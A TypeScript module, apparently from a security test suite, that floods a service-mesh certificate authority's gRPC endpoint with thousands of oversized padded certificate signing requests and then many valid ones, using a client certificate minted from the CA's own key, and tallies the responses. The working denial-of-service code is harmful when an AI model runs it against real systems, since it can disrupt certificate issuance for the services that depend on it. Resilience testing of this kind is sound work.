/**
 * Certificate requests to the CA on the secure gRPC port, from one authenticated workload (a client
 * certificate the plugged-in CA in `caDir` issued): large CSRs (thousands of SANs), then many valid ones.
 *
 * @module
 */
import { Buffer } from "node:buffer";
import * as grpc from "@grpc/grpc-js";
import { caServiceDefinition, MESH_CA_SERVICE } from "../../proto/ca_service.ts";
import {
  certificatesToPem,
  createCertificateRequest,
  exportPrivateKeyPem,
  generateKeyPair,
  issueCertificate,
  loadCertificateAuthority,
} from "../../shared/pki/mod.ts";

/** Sizes of the attack. */
export interface CsrFloodSizes {
  /** Large CSRs to send, and their size in PEM bytes (about). */
  readonly large: number;
  readonly largeBytes: number;
  /** Valid CSRs to send. */
  readonly valid: number;
  /** Requests in flight at once. */
  readonly concurrency: number;
}

const IDENTITY = "spiffe://cluster.local/ns/attack/sa/attacker";
const DAY = 24 * 3_600_000;

/** Sends `count` copies of `csr` with `concurrency` in flight; counts the answers by status. */
async function send(
  create: (csr: string) => Promise<void>,
  csr: string,
  count: number,
  concurrency: number,
): Promise<Record<string, number>> {
  const outcomes: Record<string, number> = {};
  let next = 0;
  await Promise.all(Array.from({ length: concurrency }, async () => {
    while (next < count) {
      next++;
      let outcome = "OK";
      try {
        await create(csr);
      } catch (error) {
        outcome = grpc.status[(error as grpc.ServiceError).code] ?? "error";
      }
      outcomes[outcome] = (outcomes[outcome] ?? 0) + 1;
    }
  }));
  return outcomes;
}

/** Runs the attack; resolves with the answers by status. */
export async function csrFlood(
  secureGrpcAddr: string,
  caDir: string,
  sizes: CsrFloodSizes,
): Promise<Record<string, unknown>> {
  const read = (name: string) => Deno.readTextFile(`${caDir}/${name}`);
  const ca = await loadCertificateAuthority(await read("ca-cert.pem"), await read("ca-key.pem"));
  const keys = await generateKeyPair({ algorithm: "ECDSA" });
  const cert = await issueCertificate(ca, { publicKey: keys.publicKey, uris: [IDENTITY], ttlMs: DAY });
  const Client = grpc.makeGenericClientConstructor(caServiceDefinition(MESH_CA_SERVICE), MESH_CA_SERVICE);
  const client = new Client(
    secureGrpcAddr,
    grpc.credentials.createSsl(
      Buffer.from(await read("root-cert.pem")),
      Buffer.from(await exportPrivateKeyPem(keys.privateKey)),
      Buffer.from(certificatesToPem([cert]) + await read("ca-cert.pem")),
    ),
    { "grpc.ssl_target_name_override": "localhost", "grpc.max_send_message_length": -1 },
  );
  const create = (csr: string) =>
    new Promise<void>((resolve, reject) =>
      // deno-lint-ignore no-explicit-any
      (client as any).CreateCertificate(
        { csr, validityDuration: 3600 },
        { deadline: Date.now() + 60_000 },
        (error: grpc.ServiceError | null) => error ? reject(error) : resolve(),
      )
    );
  const csrKeys = await generateKeyPair({ algorithm: "ECDSA" });
  // A SAN URI takes about 59 PEM bytes.
  const uris = Array.from(
    { length: Math.max(1, Math.round(sizes.largeBytes / 59)) },
    (_, i) => `spiffe://cluster.local/ns/attack/sa/pad-${String(i).padStart(6, "0")}`,
  );
  const large = await createCertificateRequest(csrKeys, { uris });
  const valid = await createCertificateRequest(csrKeys, { uris: [IDENTITY] });
  const started = Date.now();
  const largeOutcomes = await send(create, large, sizes.large, Math.min(sizes.concurrency, 10));
  const largeMs = Date.now() - started;
  const validOutcomes = await send(create, valid, sizes.valid, sizes.concurrency);
  client.close();
  return {
    largeCsrBytes: large.length,
    large: largeOutcomes,
    largeMs,
    valid: validOutcomes,
    validMs: Date.now() - started - largeMs,
  };
}
